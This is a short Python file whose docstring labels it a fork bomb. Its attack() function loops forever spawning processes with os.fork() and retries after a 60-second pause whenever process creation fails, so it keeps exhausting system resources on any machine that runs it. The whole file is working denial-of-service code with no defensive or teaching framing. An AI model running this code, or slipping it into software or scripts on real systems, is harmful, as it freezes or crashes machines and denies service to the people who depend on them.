"""A fork bomb."""

import os
import time


def attack():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(60)
